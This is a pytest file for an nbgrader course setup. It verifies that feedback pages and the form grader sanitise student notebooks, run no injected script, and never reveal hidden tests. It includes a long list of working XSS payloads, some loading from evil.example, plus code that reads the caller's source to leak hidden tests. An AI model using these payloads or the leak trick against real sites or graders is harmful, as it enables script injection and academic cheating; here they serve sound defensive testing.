"""Feedback without hidden tests, and pages on which nothing of a student's is executed."""

import base64
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
from copy import deepcopy
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbclient import NotebookClient
from nbconvert.exporters import HTMLExporter
from nbconvert.filters import strip_ansi
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI
from nbgrader.converters import Autograde
from nbgrader.preprocessors import ClearHiddenTests
from nbgrader.server_extensions.formgrader.handlers import template_path
from PIL import Image
from tiny_course import NAME, tiny_source
from traitlets.config import PyFileConfigLoader

from utils.grading import assignments, feedback
from utils.grading.feedback import Disarm, Given, Show, explain, safe_html, sanitise
from utils.grading.rebuild import rebuild, released
from utils.grading.records import REFUSED, Flag, Record
from utils.grading.release import release

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning:nbgrader")

HIDDEN = "2 + 2"  # stands in the hidden test of the tiny course and nowhere else
JS = "window.pwned=1"
B64 = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'.encode()).decode()
VECTORS = [
    f"<script>{JS}</script>",
    f"<SCRIPT/x>{JS}</SCRIPT >",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    '<script src="https://evil.example/x.js"></script>',
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={JS} //",
    f"<img/src='x'/onerror='{JS}'>",
    f'<img src="data:image/png;base64,AAAA" onerror="{JS}">',
    f'<img src="data:image/svg+xml;base64,{SVG}">',
    "<img src=https://evil.example/tracking.png>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "![picture](https://evil.example/b.png)",
    "![picture](evil.svg)",
    f"[link](javascript:{JS})",
    f'<a href="JaVaScRiPt:{JS}">link</a>',
    f'<a href=" \x01javascript:{JS}">link</a>',
    f'<a href="java\tscript:{JS}">link</a>',
    f'<a href="java&#10;script&colon;{JS}">link</a>',
    f'<a href="&#106;avascript:{JS}">link</a>',
    f'<a href="/files/javascript:{JS}">link</a>',
    f"[link](/files/javascript:{JS})",
    f"<javascript:{JS}>",
    f'<a href="data:text/html;base64,{B64}">link</a>',
    "[link](evil.html)",
    "[link](//evil.example)",
    f'<a href="vbscript:{JS}" onclick="{JS}">link</a>',
    f'<svg onload="{JS}"></svg>',
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text y="20">link</text></a></svg>',
    f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"></svg>',
    f'<math href="javascript:{JS}">link</math>',
    f'<math><maction actiontype="statusline#x" xlink:href="javascript:{JS}">x</maction></math>',
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f'<object data="data:text/html;base64,{B64}"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    '<p style="background: url(https://evil.example/y)">text</p>',
    '<link rel="stylesheet" href="https://evil.example/z.css">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<form action="javascript:{JS}"><button autofocus onfocus="{JS}">go</button></form>',
    f'<button form="x" formaction="javascript:{JS}">go</button>',
    f'<details open ontoggle="{JS}"><summary>more</summary>text</details>',
    f'<input autofocus onfocus="{JS}">',
    f'<video><source onerror="{JS}"></video>',
    f'<body onload="{JS}">',
    f'<marquee onstart="{JS}">text</marquee>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\"></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='{JS}'&gt;\">",
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f"<template><img src=x onerror={JS}></template>",
    f"<textarea></textarea><img src=x onerror={JS}>",
    f"<title></title><img src=x onerror={JS}>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!-- --!><img src=x onerror={JS}> -->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<?xml ><img src=x onerror={JS}>?>",
    f"<xss id=x tabindex=1 onfocus={JS}></xss>",
    f"</div></div></body></html><script>{JS}</script>",
    f"$\\href{{javascript:{JS}}}{{link}}$",
    f"$$\n\\style{{background: url(https://evil.example/t)}}{{x}} \\url{{javascript:{JS}}}\n$$",
    f"\\begin{{align}}\\hr<!-- -->ef{{javascript:{JS}}}{{x}}\\end{{align}}",
    f"&#92;href{{javascript:{JS}}}{{x}} \\require{{HTML}} \\cssId{{notebook}}{{x}}",
    f"$<img src=x onerror={JS}>$",
    f"```mermaid\n</pre><img src=x onerror={JS}>\n```",
    f"|a|\n|-|\n|<img src=x onerror={JS}>|",
    '<span class="full-credit" id="submission_id" data-link="x" name="base_url">text</span>',
]
ELEMENTS = {"a", "img", *feedback.HEADINGS, *feedback.TABLES, *feedback.LISTS, *feedback.BLOCKS, *feedback.SPANS}
ATTRIBUTES = {"href", "rel", "target", "src", "alt", "class", "align", "open", "start"}


def png(kind: str = "PNG", size: tuple[int, int] = (2, 2)) -> str:
    file = io.BytesIO()
    Image.new("RGB", size).save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


# --- Markdown ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_markdown_becomes_harmless(vector):
    soup = BeautifulSoup(safe_html(vector), "html.parser")
    for element in soup.find_all(True):
        assert element.name in ELEMENTS
        assert set(element.attrs) <= ATTRIBUTES
        assert re.match(r"https?://|mailto:|#|$", element.get("href", ""))
        assert re.match(r"data:image/(png|jpeg|gif);base64,|$", element.get("src", ""))
        assert "full-credit" not in element.get("class", [])
    for text in soup.find_all(string=True):
        assert text.find_parent(["code", "pre"]) or not feedback.ACTIVE_TEX.search(text)


@pytest.mark.parametrize("vector", [vector for vector in VECTORS if "```" not in vector])
def test_hostile_markdown_in_a_code_block_is_visible_as_text(vector):
    soup = BeautifulSoup(safe_html(f"~~~html\n{vector}\n~~~"), "html.parser")
    assert {element.name for element in soup.find_all(True)} <= {"div", "pre", "span"}
    assert soup.get_text().strip() == vector.replace("\x01", "?")


def test_a_diagram_is_shown_as_its_source():
    soup = BeautifulSoup(safe_html(f"```mermaid\n<img src=x onerror={JS}>\n```"), "html.parser")
    assert soup.get_text().strip() == f"<img src=x onerror={JS}>"


def test_elements_that_are_not_allowed_are_visible_as_text():
    text = BeautifulSoup(safe_html(f"<script>{JS}</script> <img src=x onerror=1>"), "html.parser").get_text()
    assert f"<script>{JS}</script>" in text
    assert "picture not shown" in text


def test_ordinary_markdown_stays():
    source = "# A\n\n**b** `c` [d](https://e.org/?f=1&g=2) $h_1 < \\frac{1}{2}$\n\n|i|j|\n|:-|-:|\n|1|2|\n\n- k\n\n"
    source += "```python\nl = 1\n```\n\n<details><summary>m</summary>\n\nn **o**\n\n</details>"
    page = safe_html(source)
    for part in (
        "<h1>A</h1>",
        "<strong>b</strong>",
        "<code>c</code>",
        '<a href="https://e.org/?f=1&amp;g=2" rel="noopener noreferrer" target="_blank">d</a>',
        "$h_1 &lt; \\frac{1}{2}$",
        '<th align="left">i</th>',
        '<td align="right">2</td>',
        "<li>k</li>",
        '<span class="n">l</span>',
        "<details><summary>m</summary>",
        "<strong>o</strong>",
    ):
        assert part in page


def test_attachments_and_embedded_pictures_are_shown_if_they_are_pictures():
    good, jpeg = png(), png("JPEG")
    attachments = {"a.png": {"image/png": good}, "b c.jpg": {"image/jpeg": [jpeg]}, "d.png": {"image/png": B64}}
    attachments["e.svg"] = {"image/svg+xml": "<svg/>"}
    page = safe_html(
        "![1](attachment:a.png) ![2](attachment:b%20c.jpg) ![3](attachment:d.png) ![4](attachment:e.svg) "
        f"![5](attachment:missing.png) ![6](data:image/gif;base64,{png('GIF')}) ![7](data:image/png;base64,{jpeg})",
        attachments,
    )
    shown = [(image["alt"], image["src"]) for image in BeautifulSoup(page, "html.parser").find_all("img")]
    assert [alt for alt, _ in shown] == ["1", "2", "6"]
    assert shown[0][1] == f"data:image/png;base64,{good}"
    assert re.findall(r"not shown: (\d)", page) == ["3", "4", "5", "7"]


def test_text_that_is_too_long_or_nested_too_deep_is_cut_and_plain():
    cut = feedback.shorten("a" * 10_000_000, 1000)
    assert len(cut) <= 1000 and feedback.shorten(cut, 1000) == cut
    assert len(safe_html("a" * 10_000_000)) < 2 * feedback.MAX_SOURCE
    for depth in (200, 3000):
        page = safe_html("<div>" * depth + "text")
        assert page.startswith("<pre>&lt;div&gt;") and "text" in page


# --- outputs ----------------------------------------------------------------------------------------------------------


def display(**data):
    return {"output_type": "display_data", "data": {k.replace("_", "/"): v for k, v in data.items()}, "metadata": {}}


def test_only_texts_and_pictures_of_outputs_stay():
    html = {"text/html": "<b>x</b>", "text/plain": "plain", "image/svg+xml": "<svg/>", "application/javascript": JS}
    hostile = {"output_type": "display_data", "data": html, "metadata": {"filenames": {"image/png": "https://evil"}}}
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": ["IntSlider", "()"]}
    (first, second, third, fourth, fifth) = sanitise(
        [
            hostile,
            {"output_type": "execute_result", "data": widget, "execution_count": "<img>"},
            display(image_png=png(), text_plain="<Figure>"),
            display(text_html="<b>only</b>"),
            display(text_latex=["$\\href", "{x}{y}$"]),
        ]
    )
    assert first == new_output("display_data", data={"text/plain": "plain"})
    assert second == new_output("execute_result", data={"text/plain": "IntSlider()"})
    assert third.data == {"image/png": png(), "text/plain": "<Figure>"}
    assert fourth.data == {"text/plain": "<b>only</b>"}
    assert fifth.data == {"text/plain": "$\\href{x}{y}$"}


@pytest.mark.parametrize(
    "data",
    ["", "not base64 <img>", B64, png("JPEG"), png()[:40], base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 99).decode()],
)
def test_a_picture_that_is_none_goes(data):
    (output,) = sanitise([display(image_png=data)])
    assert output.data == {"text/plain": "(This output cannot be shown.)"}


def test_pictures_that_are_too_large_go(monkeypatch):
    assert feedback.picture("image/png", png(size=(7000, 7000))) == ""
    monkeypatch.setattr(feedback, "MAX_IMAGE", 10)
    assert feedback.picture("image/png", png()) == ""


def test_streams_and_errors_keep_their_colours_and_both_ends():
    red = "\x1b[31mred\x1b[0m"
    stream, error = sanitise(
        [
            {"output_type": "stream", "name": "stdout", "text": [red, "a" * 1_000_000, "the end"]},
            {"output_type": "error", "ename": "E", "evalue": "v", "traceback": [red, "b" * 1_000_000, "E: v"]},
        ]
    )
    for text in (stream.text, "\n".join(error.traceback)):
        assert text.startswith(red) and len(text) < feedback.MAX_TEXT + 100
        assert "characters are not shown" in text
    assert stream.text.endswith("the end") and error.traceback[-1] == "E: v"


def test_many_outputs_are_cut_and_broken_ones_do_no_harm():
    broken = [{}, {"output_type": "evil"}, {"output_type": "stream"}, {"output_type": "error", "traceback": None}]
    broken += [{"output_type": "display_data"}, {"output_type": "display_data", "data": {"text/plain": {"a": 1}}}]
    outputs = sanitise([*broken, *[{"output_type": "stream", "name": "<img>", "text": "x"}] * 1000])
    assert len(outputs) <= feedback.MAX_OUTPUTS + 1
    assert outputs[-1].text == "(956 more outputs are not shown.)"
    assert {output.get("name", "stdout") for output in outputs} == {"stdout"}


def test_disarm_leaves_sources_and_marks_alone():
    notebook = tiny_source()
    cell = notebook.cells[3]
    cell.outputs = [display(text_html="<b>x</b>"), new_output("error", ename="E", evalue="v", traceback=["t"])]
    cell.execution_count = 5
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    notebook.metadata.language_info = {"name": "python", "pygments_lexer": "<img>"}
    disarmed, _ = Disarm().preprocess(deepcopy(notebook), {})
    assert [c.source for c in disarmed.cells] == [c.source for c in notebook.cells]
    assert [c.metadata for c in disarmed.cells] == [c.metadata for c in notebook.cells]
    assert disarmed.cells[3].outputs[0].data == {"text/plain": "<b>x</b>"}
    assert disarmed.cells[3].outputs[1] == cell.outputs[1]
    assert disarmed.cells[3].execution_count == 5
    assert set(disarmed.metadata) == {"kernelspec", "language_info"}
    assert disarmed.metadata.language_info == {"name": "python"}


def test_the_form_grader_shortens_what_a_student_wrote_and_nothing_official():
    notebook = tiny_source()
    notebook.cells[3].source += "#" * 50_000
    notebook.cells += [new_markdown_cell("*a" * 50_000) for _ in range(100)]
    shown, _ = Show().preprocess(deepcopy(notebook), {})
    assert shown.cells[3].source == notebook.cells[3].source
    assert sum(len(cell.source) for cell in shown.cells[7:]) < 2 * feedback.MAX_SOURCES


def test_the_form_grader_disarms_notebooks_itself(tmp_path):
    """Whoever wrote an autograded notebook: another version of the course, or somebody in JupyterLab."""
    shutil.copy(assignments.ROOT / "nbgrader_config.py", tmp_path)
    config = PyFileConfigLoader("nbgrader_config.py", path=str(tmp_path)).load_config()
    config.HTMLExporter |= {"template_name": "formgrade", "extra_template_basedirs": [template_path]}
    notebook = tiny_source()
    notebook.cells[0].outputs = [display(text_html="<i>html</i>"), display(application_javascript="js()")]
    notebook.cells += [new_raw_cell("<i>raw</i>", metadata={"raw_mimetype": "text/html"}), new_markdown_cell("<img>")]
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources={"index": 0, "total": 1})
    assert "&lt;i&gt;html&lt;/i&gt;" in page and HIDDEN in page and "picture not shown" in page
    soup = BeautifulSoup(page, "html.parser").find(id="notebook")
    assert not soup.find_all(["i", "script", "img", "iframe"])


# --- feedback ---------------------------------------------------------------------------------------------------------

ERROR = new_output("error", ename="AssertionError", evalue="1 + 2", traceback=["AssertionError: 1 + 2"])
FULL = {"ex1-add-test": Given(3, 3, False, False), "ex1-add-test-2": Given(1, 1, False, False)}
FULL |= {"ex2-why": Given(2, 2, False, True)}
LOST = FULL | {"ex1-add-test": Given(0, 3, False, False)}


def explained(visible: list | None, given: dict[str, Given], flags=(), answer: str | None = None, comment: str = ""):
    """Return the cells of the tiny notebook's feedback by their grade_id, the summary as `summary`."""
    notebook = rebuild(tiny_source(), released(tiny_source()))
    if answer is not None:
        notebook.cells[2].source = answer
    notebook.cells[6].metadata.nbgrader.comment = comment
    for cell in notebook.cells:
        if cell.cell_type == "code":  # what a kernel could have printed that saw the hidden tests
            cell.outputs = [new_output("stream", text=f"assert add(2, 2) == 4, 'hidden: {HIDDEN}'")]
            cell.execution_count = 2222
    record = Record(NAME, "x", "", "", "", visible=visible, flags=list(flags))
    explain(notebook, record, given)
    text = nbformat.writes(notebook)
    assert HIDDEN not in text and "rubric" not in text
    assert '"execution_count": 2222' not in text  # with its name: a random cell id may contain 2222
    cells = {cell.metadata.get("nbgrader", {}).get("grade_id", "summary"): cell for cell in notebook.cells}
    return cells


def note(cell) -> str:
    return strip_ansi(cell.outputs[0].text) if cell.outputs else ""


def test_full_points_need_no_words():
    cells = explained([[]] * 7, FULL)
    assert not any(cell.get("outputs") for cell in cells.values())
    assert cells["summary"].source.count("Nothing: all points.") == 2
    assert "4 of 4" in cells["summary"].source


def test_without_a_visible_run_there_are_no_outputs():
    cells = explained(None, LOST)
    assert [key for key, cell in cells.items() if cell.get("outputs")] == ["ex1-add-test"]
    assert "0 of 3 points. What the tests printed is not kept." in note(cells["ex1-add-test"])


def test_a_record_of_another_notebook_is_not_used():
    assert "not kept" in note(explained([[]] * 8, LOST)["ex1-add-test"])


def test_a_hidden_test_that_fails_is_named_and_not_shown():
    cells = explained([[]] * 7, LOST)
    assert "0 of 3 points. The tests that you can see pass; a hidden one does not." in note(cells["ex1-add-test"])
    assert "docstring" in note(cells["ex1-add-test"])
    assert "a hidden one does not" in cells["summary"].source
    assert "assert add(1, 2) == 3" in cells["ex1-add-test"].source


def test_a_visible_test_that_fails_is_shown_with_its_message():
    visible = [[], [], [], [ERROR], [], [], []]
    cell = explained(visible, LOST)["ex1-add-test"]
    assert "A test that you can see fails" in note(cell)
    assert cell.outputs[1] == ERROR


def test_an_answer_that_does_not_run_is_the_first_thing_to_repair():
    broken = new_output("error", ename="SyntaxError", evalue="oh | <b>\nno", traceback=["t"])
    visible = [[], [], [broken], [ERROR], [], [], []]
    cells = explained(visible, LOST)
    assert "The cell with your answer stops with SyntaxError: oh | <b>. Repair that first" in note(
        cells["ex1-add-test"]
    )
    assert "oh | &lt;b&gt;" in cells["summary"].source


def test_the_file_name_that_ipython_invents_is_not_shown():
    broken = new_output("error", ename="SyntaxError", evalue="expected ':' (1630816513.py, line 1)", traceback=["t"])
    cells = explained([[], [], [broken], [ERROR], [], [], []], LOST)
    assert "stops with SyntaxError: expected ':' (line 1). Repair" in note(cells["ex1-add-test"])


def test_an_answer_cell_that_is_not_written_is_called_so():
    untouched = new_output("error", ename="NotImplementedError", evalue="", traceback=["t"])
    cells = explained([[], [], [untouched], [ERROR], [], [], []], LOST)
    assert "not written yet" in note(cells["ex1-add-test"])


def test_a_cell_that_was_stopped_took_too_long_whatever_the_interrupt_raised():
    errors = [
        new_output("error", ename=name, evalue="", traceback=[name]) for name in ("KeyboardInterrupt", "TimeoutError")
    ]
    cells = explained([[], [], [], errors, [], [], []], LOST)
    assert "took too long" in note(cells["ex1-add-test"]) and "took too long" in cells["summary"].source
    cells = explained([[], [], errors, [ERROR], [], [], []], LOST)
    assert "The cell with your answer stops with TimeoutError" in note(cells["ex1-add-test"])


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("NotRun", "did not run"),
        ("DeadKernel", "ended Python"),
        ("TimeoutError", "took too long"),
        ("NotImplementedError", "not written yet"),
        ("KeyError", "Your code stops with KeyError"),
    ],
)
def test_why_a_test_failed_is_said_in_words(name, words):
    failure = new_output("error", ename=name, evalue="", traceback=[name])
    assert words in note(explained([[], [], [], [failure], [], [], []], LOST)["ex1-add-test"])


def test_a_visible_run_that_stopped_early_says_so():
    cells = explained([[], [], []], LOST)
    assert "did not run, because an earlier cell" in note(cells["ex1-add-test"])


@pytest.mark.parametrize(("kind", "words"), [("deadline", "took too long"), ("died", "memory"), ("tampered", "Ask")])
def test_what_happened_while_grading_is_said_in_words(kind, words):
    cells = explained([[]] * 7, LOST, flags=[Flag(kind, "a message for the instructor")])
    assert words in note(cells["ex1-add-test"])
    assert "for the instructor" not in note(cells["ex1-add-test"])


def test_a_test_without_hidden_part_claims_none():
    given = FULL | {"ex1-add-test-2": Given(0, 1, False, False)}
    assert "hidden" not in note(explained([[]] * 7, given)["ex1-add-test-2"])


def test_points_given_by_a_person_are_not_explained_by_a_program():
    given = FULL | {"ex1-add-test": Given(2, 3, False, True)}
    assert note(explained([[]] * 7, given)["ex1-add-test"]).startswith("2 of 3 points. A person gave")


def test_what_could_not_be_graded_says_so_above_the_table():
    notebook = released(tiny_source())
    notebook.cells.insert(0, new_markdown_cell(f"{REFUSED}: there is no notebook."))
    explain(notebook, None, LOST)
    assert notebook.cells[0].source.startswith(REFUSED) and notebook.cells[1].source.startswith("<table>")


def test_written_answers_say_where_they_stand():
    def comment(mark: Given, text: str = "") -> str:
        return explained([[]] * 7, FULL | {"ex2-why": mark}, comment=text)["ex2-why"].metadata.nbgrader.comment

    assert "– of 2" in explained(None, FULL | {"ex2-why": Given(0, 2, True, False)})["summary"].source
    assert "**Not yet graded.** A person reads this answer" in comment(Given(0, 2, True, False))
    assert "no answer here yet" in comment(Given(0, 2, False, False), "No response.")
    assert comment(Given(1, 2, False, True), "Say more.") == "Say more."
    assert "1 of 2 points" in comment(Given(1, 2, False, True))
    assert comment(Given(2, 2, False, True), "Good.") == "Good."


def test_a_student_who_writes_the_markers_of_hidden_tests_stops_nothing():
    answer = "### BEGIN HIDDEN TESTS\n### BEGIN HIDDEN TESTS\nmine"
    assert explained([[]] * 7, FULL, answer=answer)["ex1-add"].source == answer


def test_too_many_outputs_do_not_blow_the_page_up(monkeypatch):
    monkeypatch.setattr(feedback, "MAX_PAGE", 15_000)
    long = [{"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000}]
    cells = explained([long] * 7, FULL)
    assert "characters are not shown" in cells["setup"].outputs[0].text
    assert "too many outputs" in cells["ex1-add-test"].outputs[0].text


# --- with real nbgrader, and in a browser -----------------------------------------------------------------------------

SPY = """import inspect

def add(a, b):
    print(inspect.getsource(inspect.currentframe().f_back))
    return 3"""
NOISE = f"""from IPython.display import display
get_ipython().kernel.language_info = {{"name": "python", "pygments_lexer": '"><img src=x onerror={JS}>'}}
markup = '<script>{JS}</script><img src=x onerror="{JS}">'
display({{"text/html": markup, "text/plain": "an html output"}}, raw=True)
display({{"text/html": markup}}, raw=True)
display({{"text/markdown": markup, "text/latex": r"$\\href{{javascript:{JS}}}{{x}}$"}}, raw=True)
display({{"application/javascript": "{JS}"}}, raw=True)
display({{"image/svg+xml": '<svg onload="{JS}"></svg>'}}, raw=True)
size = {{"image/png": {{"width": markup}}}}
display({{"image/png": '" onerror="{JS}', "text/plain": "no picture"}}, raw=True, metadata=size)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
print(markup, "\\x1b[31m" + markup)
raise ValueError("\\x1b[31m" + markup)"""


def hand_in(student: str, root: Path) -> None:
    """Write a submission: `ann` overfits the visible tests, `bob` hands in nothing, `mallory` attacks."""
    notebook = nbformat.read(root / "exercises" / NAME / f"{NAME}.ipynb", 4)
    cells = {cell.metadata.nbgrader.grade_id: cell for cell in notebook.cells}
    if student == "ann":
        cells["ex1-add"].source = "def add(a, b):\n    return {(1, 2): 3, (0, 0): 0}.get((a, b))"
        cells["ex2-why"].source = "Because $1 + 2 = 3$."
    if student == "mallory":
        cells["ex1-add"].source = SPY
        cells["ex2-why"].source = "\n\n".join(VECTORS)
        fenced = [new_markdown_cell(f"~~~html\n{vector}\n~~~") for vector in VECTORS]
        raw = new_raw_cell(f"<script>{JS}</script>", metadata={"raw_mimetype": "text/html"})
        long = [
            new_code_cell(f"# {'x' * 30_000}\nprint('y' * 30_000)"),
            new_code_cell("for i in range(9999): print(i)"),
        ]
        notebook.cells += [new_code_cell(NOISE), new_code_cell(f"# </script><img src=x onerror={JS}>"), raw, *long]
        notebook.cells += [*fenced, *(new_markdown_cell(vector) for vector in VECTORS)]
    path = root / "classroom" / "submitted" / student / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)


def visible_run(autograded: Path) -> list[list[dict]]:
    """Return what the cells print without hidden tests, in a kernel that never saw one."""
    notebook, _ = ClearHiddenTests(enforce_metadata=False).preprocess(nbformat.read(autograded, 4), {})
    NotebookClient(notebook, allow_errors=True).execute()
    return [cell.get("outputs", []) for cell in notebook.cells]


@pytest.fixture(scope="module")
def classroom(tmp_path_factory) -> Path:
    """The root of a tiny course with three graded students and their feedback."""
    root = tmp_path_factory.mktemp("course")
    source = root / "solutions" / NAME / f"{NAME}.ipynb"
    source.parent.mkdir(parents=True)
    nbformat.write(tiny_source(), source)
    release(root=root)
    shutil.copy(assignments.ROOT / "nbgrader_config.py", root)
    config = PyFileConfigLoader("nbgrader_config.py", path=str(root)).load_config()
    config.Autograde.autograde_preprocessors = [*Autograde.autograde_preprocessors.default(), Disarm]
    api = NbGraderAPI(config=config)
    results = [api.generate_assignment(NAME)]
    for student in ("ann", "bob", "mallory"):
        hand_in(student, root)
        results.append(api.autograde(NAME, student))
        autograded = root / "classroom" / "autograded" / student / NAME / f"{NAME}.ipynb"
        record = Record(NAME, student, "", "", "", visible=visible_run(autograded))
        record.save(root / "classroom" / "grading")
    results += [api.generate_feedback(NAME, student) for student in ("ann", "bob", "mallory")]
    assert all(result["success"] for result in results), "\n".join(result.get("log") or "" for result in results)
    return root


def page_of(root: Path, student: str) -> str:
    return (root / "classroom" / "feedback" / student / NAME / f"{NAME}.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_feedback_of_nbgrader_shows_no_hidden_test(classroom):
    autograded = classroom / "classroom" / "autograded" / "mallory" / NAME / f"{NAME}.ipynb"
    assert autograded.read_text(encoding="utf-8").count(HIDDEN) > 2, "the attack does not work any more"
    for student in ("ann", "bob", "mallory"):
        assert HIDDEN not in page_of(classroom, student)
        assert "rubric" not in page_of(classroom, student)
    assert "assert add(1, 2) == 3" in BeautifulSoup(page_of(classroom, "mallory"), "html.parser").get_text()


@pytest.mark.slow
def test_autograded_notebooks_hold_nothing_active(classroom):
    notebook = nbformat.read(classroom / "classroom" / "autograded" / "mallory" / NAME / f"{NAME}.ipynb", 4)
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", [])]
    assert len(outputs) > 10 and {kind for output in outputs for kind in output.get("data", {})} == {"text/plain"}


@pytest.mark.slow
def test_the_feedback_tells_a_learner_what_to_do(classroom):
    ann, bob = (BeautifulSoup(page_of(classroom, name), "html.parser").get_text() for name in ("ann", "bob"))
    assert "a hidden one does not" in ann and "Not yet graded." in ann
    assert "Your answer is not written yet" in bob and "There is no answer here yet" in bob


CHROMIUM = next(filter(None, map(shutil.which, ["chromium", "chromium-browser", "google-chrome"])), None)
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
TOKEN = "tests"
PROVOKE = """async () => {
    for (const element of document.querySelectorAll("#notebook *"))
        for (const type of ["mouseover", "focus", "error", "toggle", "begin"]) element.dispatchEvent(new Event(type));
    for (const link of document.querySelectorAll("#notebook a[href]"))
        if (!link.href.startsWith("http")) link.click();
    await new Promise((done) => setTimeout(done, 1000));
    return "pwned" in window;
}"""


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("needs Chromium: install it with 'apt install chromium', or Google Chrome, and put it on PATH.")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def page(browser):
    """A page without a network beyond this machine; `page.seen` lists dialogs, other pages, requests to elsewhere."""
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    page.seen = []

    def local_only(route):
        address = urlsplit(route.request.url)
        if address.scheme in ("file", "data", "blob") or address.hostname == "127.0.0.1":
            return route.continue_()
        if "mathjax" not in address.path:  # nbgrader's own
            page.seen.append(route.request.url)
        return route.abort()

    context.route("**/*", local_only)
    page.on("dialog", lambda dialog: (page.seen.append(dialog.message), dialog.dismiss()))
    context.on("page", lambda other: page.seen.append(other.url))
    yield page
    context.close()


def screenshot(page, name: str) -> None:
    if folder := os.environ.get("COURSE_SCREENSHOTS"):
        page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)


@pytest.fixture(scope="module")
def server(classroom, tmp_path_factory):
    """A Jupyter server with the form grader, in the course's folder: its address."""
    home = tmp_path_factory.mktemp("jupyter")
    folders = {f"JUPYTER_{name}_DIR": str(home / name.lower()) for name in ("CONFIG", "DATA", "RUNTIME")}
    command = [
        *(sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", "--ServerApp.ip=127.0.0.1"),
        *("--ServerApp.port=0", f"--ServerApp.root_dir={classroom}", f"--IdentityProvider.token={TOKEN}"),
        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
    ]
    environment = os.environ | folders | {"PYTHONPATH": os.pathsep.join([str(assignments.ROOT), *sys.path])}
    with open(home / "log", "w") as log:
        process = subprocess.Popen(command, env=environment, stdout=log, stderr=log, cwd=classroom)
    try:
        yield _address(process, home)
    finally:
        process.terminate()
        process.wait()


def _address(process: subprocess.Popen, home: Path) -> str:
    for _ in range(600):
        for file in (home / "runtime").glob("jpserver-*.json"):
            if text := file.read_text():
                return json.loads(text)["url"]
        if process.poll() is not None:
            break
        time.sleep(0.1)
    raise RuntimeError(f"Jupyter did not start:\n{(home / 'log').read_text()}")


@pytest.mark.slow
@pytest.mark.parametrize("student", ["ann", "bob", "mallory"])
def test_nothing_in_a_feedback_page_is_executed(classroom, page, student):
    page.goto((classroom / "classroom" / "feedback" / student / NAME / f"{NAME}.html").as_uri())
    screenshot(page, f"feedback_{student}")
    assert page.evaluate(PROVOKE) is False
    assert page.seen == []
    text = page.inner_text("body")
    assert HIDDEN not in text
    if student == "mallory":
        assert text.count(f"<script>{JS}</script>") > 5
        assert "an html output" in text
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280, "long lines must not widen the page"


@pytest.mark.slow
def test_nothing_in_the_form_grader_is_executed_and_everything_is_shown(classroom, server, page):
    with Gradebook(f"sqlite:///{classroom}/classroom/gradebook.db") as gradebook:
        submission = gradebook.find_submission_notebook(NAME, NAME, "mallory").id
    page.set_extra_http_headers({"Authorization": f"token {TOKEN}"})
    page.goto(f"{server}formgrader/submissions/{submission}/")
    page.wait_for_function("() => formgrader.grades?.loaded && formgrader.comments?.loaded")
    screenshot(page, "formgrader_mallory")
    assert page.evaluate(PROVOKE) is False
    assert page.seen == []
    text = page.inner_text("body")
    assert text.count(f"hidden: {HIDDEN}") > 2  # the test itself, and what the student printed
    assert text.count(f"<script>{JS}</script>") > 5
    assert page.locator(".full-credit").count() == 3, "the form has a button for each graded cell, and no other"
    assert page.locator("#ex1-add-test").get_attribute("placeholder") == "0"
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
